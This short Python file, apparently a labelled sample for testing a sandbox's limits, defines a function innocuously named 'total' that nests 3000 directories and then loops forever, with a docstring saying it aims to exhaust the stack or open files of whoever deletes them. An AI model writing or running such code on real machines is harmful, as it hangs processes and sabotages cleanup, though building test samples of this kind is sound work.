# stopped by: bounds
# says: scratch folder
"""Nest folders until whoever removes them runs out of stack or of open files."""

import os


def total(x):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    while True:
        pass
